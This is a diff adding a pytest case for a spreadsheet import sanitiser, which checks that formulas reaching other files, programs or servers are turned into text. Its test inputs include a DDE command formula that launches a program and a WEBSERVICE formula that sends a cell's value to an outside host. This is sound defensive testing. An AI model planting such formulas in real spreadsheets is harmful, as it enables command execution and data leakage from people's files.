@@ -105,3 +105,25 @@ def test_no_text_of_ours_is_ever_a_formula(words, changed):
     sheet = opened(made)[read.title]
     assert all(cell.data_type != "f" for row in sheet for cell in row)
     assert sheet.cell(2, read.own + 4).value == 0.999
+
+
+@pytest.mark.parametrize(
+    "formula, stays",
+    [
+        ("=B2*10", True),
+        ("=SUM(Table1[Cost])", True),
+        ("=VLOOKUP(A2,'Other sheet'!A:B,2,FALSE)", True),
+        ("=[1]Prices!A1", False),
+        ("='[costs.xlsx]Prices'!A1", False),
+        ("='C:\\desk\\[costs.xlsx]Prices'!A1", False),
+        ("=cmd|'/c calc'!A1", False),
+        ('=WEBSERVICE("http://example.net/"&A2)', False),
+        ('=importxml("http://example.net","//a")', False),
+    ],
+)
+def test_what_reaches_out_of_the_workbook_is_cut_off(liner, formula, stays):
+    """The sender's own formulas stay; one that asks another file, program or server becomes its text."""
+    content = grid(OWN, (*GOOD, "second", f"={formula}"))
+    assert opened(content).active["J2"].data_type == "f"
+    cell = sheet_of(take_in(content, "s.xlsx", liner, by="ann"))["J2"]
+    assert (cell.value, cell.data_type) == (formula, "f" if stays else "s")
